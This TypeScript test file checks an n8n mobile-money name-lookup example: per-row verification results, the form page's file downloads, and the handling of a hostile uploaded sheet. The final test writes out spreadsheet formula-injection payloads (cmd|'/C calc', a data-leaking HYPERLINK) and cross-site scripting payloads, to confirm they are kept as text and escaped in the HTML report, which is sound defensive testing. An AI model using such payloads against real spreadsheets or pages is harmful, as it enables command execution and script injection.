import { mkdir, mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { z } from 'zod';
import { RESULT_COLUMNS } from '../../../nodes/MobileMoneyNameLookup/domain/result/resultColumns';
import { chosenMajor } from '../../realN8n/installN8n';
import { credentialType } from '../../realN8n/localCredential';
import { examplesFolder } from '../../realN8n/paths';
import type { FaultPlan } from '../../simulator';
import { useLiveN8n } from '../support/liveN8n';
import { publishExample } from './example';
import { submitSheet } from './forms';
import { sheetExample, sheetExampleWithFiles } from './sheetExample';
import { readWorkbook, writeSheet, type Cells } from './workbook';

const payeesFile = join(examplesFolder, 'payees.csv');
const added = ['row_number', ...RESULT_COLUMNS];

const live = useLiveN8n();
let folder: string;

beforeAll(async () => {
	folder = await mkdtemp(join(tmpdir(), 'sheets-'));
});

const isUp: FaultPlan = ({ number = '' }) =>
	['900400', '900307'].includes(number) ? { kind: 'unknownNumber' } : undefined;

async function verify(sheet: string, name: string): Promise<string> {
	const outputFolder = join(folder, name);
	await mkdir(outputFolder);
	const paths = { payeesFile: sheet, outputFolder };
	live().service.setFaultPlan(isUp);
	const workflow = await sheetExampleWithFiles(paths, live());
	expect(await live().run(workflow)).toMatchObject({ status: 'success' });
	return outputFolder;
}

async function readRows(path: string): Promise<string[][]> {
	const csvRows = z.array(z.array(z.string()));
	return csvRows.parse(parse(await readFile(path, 'utf8'), { bom: true }));
}

const readResult = async (output: string): Promise<Cells> =>
	await readWorkbook(join(output, 'verification.xlsx'));

const readReport = async (output: string): Promise<string> =>
	await readFile(join(output, 'report.html'), 'utf8');

const ownCells = (rows: Cells): unknown[] => rows.map((row) => row.slice(0, -added.length));

test('the example “Verify a sheet” gives each row one result, in a workbook that it reads as the next sheet', async () => {
	const output = await verify(payeesFile, 'own');
	const rows = await readResult(output);
	const outcome = (rows[0] ?? []).indexOf('Lookup Outcome');
	const counts: Record<string, number> = {};
	for (const row of rows.slice(1))
		counts[String(row[outcome])] = (counts[String(row[outcome])] ?? 0) + 1;
	expect(counts).toEqual({ Confirmed: 16, 'Needs Review': 10, 'Not Confirmed': 11, Unchecked: 5 });

	const [titles = [], ...payees] = await readRows(payeesFile);
	const amount = titles.indexOf('amount');
	const sheet = payees.map((row) => row.map((cell, at) => (at === amount ? Number(cell) : cell)));
	expect(ownCells(rows)).toEqual([titles, ...sheet]);
	expect(rows[0]?.slice(-added.length)).toEqual(added);
	const places = rows.slice(1).map((row) => row.at(-added.length));
	expect(places).toEqual(rows.slice(1).map((_row, index) => index + 2));
	const again = await readResult(await verify(join(output, 'verification.xlsx'), 'again'));
	expect(again[0]).toEqual(rows[0]);
	expect(again.map((row) => row[outcome])).toEqual(rows.map((row) => row[outcome]));
});

test('the page of the example “Verify a sheet” hands out both files; in n8n 1 one, which packs them', async () => {
	const credentials = { [credentialType]: live().credentialId };
	const settings = { credentials, activated: ['Your Sheet'] };
	const { url } = await publishExample(live(), sheetExample, '/form/verify-sheet', settings);
	const { title, message, files } = await submitSheet(
		...([url, 'payees.csv', 'Till,Supplier\n4738534,Jane Kamau\n5999991,Zoë Otieno\n'] as const),
	);
	expect(title).toBe('Test results: do not pay');
	expect(message).toContain('<td>Confirmed</td><td>1</td>');
	const report = /payees, checked \d{4}-\d\d-\d\d\.html/;
	if (chosenMajor() === 1) {
		expect(files).toMatchObject([{ name: 'verification.zip' }]);
		// An archive names its files uncompressed.
		const archive = files[0]?.content.toString('latin1');
		expect(archive).toMatch(report);
		expect(archive).toContain('verification.xlsx');
	} else {
		expect(files.map(({ name }) => name)).toEqual([
			...['verification.xlsx', expect.stringMatching(report)],
		]);
	}
});

test('a sheet whose author means harm comes back as text, and lets nothing else into the report', async () => {
	const sheet = [
		['type', 'number', 'expected_name', '=1+1<img src=x onerror=alert(1)>'],
		['till', '057318', 'Mercy Nafula Wekesa', '007'],
		['paybill', '090010', '', '=HYPERLINK("http://127.0.0.1/?"&A1,"free money")'],
		['till', '4738534', '=1+1', '+1+cmd|"/C calc"!A0'],
		['till', '5031264', '<script>alert(1)</script>', "-2+3+cmd|' /C calc'!A0"],
		['paybill', '900010', '"><img src=x onerror=alert(1)>', '@SUM(1+1)*cmd'],
		['till', '</td><script>alert(2)</script>', '', 'two\nlines {"=1"},"=2":"=3'],
		['till', '900103', "' onmouseover='alert(4)", '＝1+1'],
		['till', '5031264', "Ng’ang’a 😀 عربي $& $' $`", '\t=1'],
	];
	const file = join(folder, 'hostile.csv');
	await writeSheet(file, sheet);
	const output = await verify(file, 'hostile');
	// Throws at a cell that is a formula.
	expect(ownCells(await readResult(output))).toEqual(sheet);
	const html = await readReport(output);
	expect(html).toContain('&#60;/td&#62;&#60;script&#62;alert(2)');
	expect(html).not.toMatch(/<script|<img|onmouseover='/);
	expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
});
